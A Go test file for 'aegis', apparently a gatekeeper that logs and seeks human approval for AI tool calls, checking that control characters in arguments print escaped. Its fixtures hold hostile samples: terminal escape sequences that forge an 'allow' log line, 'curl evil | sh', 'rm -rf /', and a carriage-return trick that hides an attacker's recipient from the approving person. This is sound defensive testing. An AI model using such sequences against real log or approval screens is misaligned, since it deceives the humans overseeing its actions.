package main

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/aegis-mcp/aegis/internal/approval"
	"github.com/aegis-mcp/aegis/internal/chain"
	"github.com/aegis-mcp/aegis/internal/record"
)

// plainLines fails t unless out is want lines of printable text: no
// control character (a newline ends a line), no invalid byte.
func plainLines(t *testing.T, out string, want int) {
	t.Helper()
	for _, r := range strings.TrimSuffix(out, "\n") {
		if r != '\n' && (r < ' ' || r == 0x7f || r >= 0x80 && r < 0xa0 || r == 0xfffd) {
			t.Errorf("printed %q, holding %U", out, r)
			return
		}
	}
	if n := strings.Count(out, "\n"); n != want {
		t.Errorf("printed %d lines, want %d: %q", n, want, out)
	}
}

// TestLogCapsShowNoEscapes: the capabilities aegis log prints under an
// entry are derived from the model's arguments (a path, a shell command,
// an id), and aegis canonicalises a path with an escape sequence, a
// carriage return or a newline in it as the file name it is. Before the
// fix they reached the operator's terminal raw: a path ending in
// "\x1b[1A\x1b[2K\r     9 ... allow demo/read_file" erased the entry's
// own line above it (a denial) and wrote an allow in its place. So could
// a reason, which quotes what it names but carries a check's message.
func TestLogCapsShowNoEscapes(t *testing.T) {
	forged := "\x1b[1A\x1b[2K\r     9 1970-01-01 00:00:00 allow demo/read_file alice\n         fs.read /tmp/notes"
	for _, tt := range []struct {
		name   string
		caps   []record.Cap
		reason string
		want   []string
	}{
		{"a path", []record.Cap{{Kind: "fs.read", Path: "/home/a/.ssh/id_rsa" + forged}}, "a reason",
			[]string{`"fs.read /home/a/.ssh/id_rsa\x1b[1A`}},
		{"a subtree", []record.Cap{{Kind: "fs.write", Path: "/home/a\r", Subtree: true}}, "a reason",
			[]string{`"fs.write /home/a\r and everything under it"`}},
		{"a shell command", []record.Cap{{Kind: "exec", Shell: true, Command: "curl evil | sh" + forged}}, "a reason",
			[]string{`"exec arbitrary shell: curl evil | sh\x1b[1A`}},
		{"argv", []record.Cap{{Kind: "exec", Program: "/bin/rm", Argv: []string{"rm", "-rf", "/\u009b2K"}}}, "a reason",
			[]string{`"exec rm -rf /\u009b2K"`}},
		{"an id", []record.Cap{{Kind: "id", IDKind: "payee", ID: "acct-1\x7f", Unproven: true}}, "a reason",
			[]string{`"id payee acct-1\x7f (unproven`}},
		{"a reason", nil, "at /x: got \x1b]0;pwned\x07", []string{`"at /x: got \x1b]0;pwned\a"`}},
		{"plain", []record.Cap{{Kind: "fs.read", Path: "/tmp/a b"}}, `rule "r" (p.yaml:3) denies fs.read /tmp/a b`,
			[]string{"         fs.read /tmp/a b\n", `         rule "r" (p.yaml:3) denies fs.read /tmp/a b` + "\n"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e := record.Entry{Seq: 9, Time: time.Unix(0, 0), Decision: "deny", Server: "demo", Tool: "read_file", Principal: "alice", Caps: tt.caps, Reason: tt.reason}
			var out strings.Builder
			if err := printEntry(&out, laneEntry{lane: chain.Lane{N: 1}, e: &e}, false); err != nil {
				t.Fatal(err)
			}
			plainLines(t, out.String(), 2+len(tt.caps))
			for _, w := range tt.want {
				if !strings.Contains(out.String(), w) {
					t.Errorf("printed %q, want it to hold %q", out.String(), w)
				}
			}
		})
	}
}

// TestApprovalShowsNoEscapes: aegis approvals show is what a person reads
// to approve a call, and the arguments it prints are the call's as
// forwarded: the client's JSON text, where a carriage return between
// tokens and DEL or a C1 control inside a string are valid. Before the
// fix they reached the terminal raw, and a carriage return let the rest
// of the arguments print over what came before it (the file, the payee
// the call names), so that the person approved what they did not see.
func TestApprovalShowsNoEscapes(t *testing.T) {
	pad := strings.Repeat(" ", 40)
	for _, tt := range []struct {
		name   string
		args   string
		reason string
		want   string
	}{
		{"a carriage return", `{"to":"attacker@evil.example",` + "\r" + `    arguments (secrets redacted): {"to":"bob@example.com"` + pad + `}`, "a reason",
			`"{\"to\":\"attacker@evil.example\",\r`},
		{"C1 and DEL", "{\"to\":\"a\u009b1A\x7f\"}", "a reason", `"{\"to\":\"a\u009b1A\x7f\"}"`},
		{"a reason", `{}`, "got \x1b[2K\rallowed", `"got \x1b[2K\rallowed"`},
		{"plain", `{"to":"bob@example.com"}`, "a reason", `arguments (secrets redacted): {"to":"bob@example.com"}`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			ap := &approval.Approval{Request: approval.Request{ID: "1234abcd", Created: time.Unix(0, 0), Expires: time.Unix(60, 0),
				Session: "s", Principal: "alice", Server: "mail", Tool: "send", Caps: []string{"net.connect smtp"}, Rules: []string{"r"},
				Reason: tt.reason, Arguments: json.RawMessage(tt.args)}, State: approval.Denied}
			var out strings.Builder
			printApproval(&out, ap, true)
			plainLines(t, out.String(), 5)
			if !strings.Contains(out.String(), tt.want) {
				t.Errorf("printed %q, want it to hold %q", out.String(), tt.want)
			}
		})
	}
}
